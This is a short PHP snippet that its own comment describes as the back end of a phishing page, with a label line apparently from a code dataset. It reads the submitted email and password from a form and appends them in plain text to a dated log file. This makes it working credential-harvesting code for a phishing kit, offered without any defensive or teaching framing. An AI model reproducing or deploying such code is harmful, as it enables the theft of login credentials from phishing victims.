<?php
// A phishing page keeps what it caught in a text file.
// want: php_credential_log
$line = "user=" . $_POST['email'] . " pass=" . $_POST['password'] . "\n";
$fp = fopen('logs/' . date('Ymd') . '.txt', 'a');
fwrite($fp, $line);
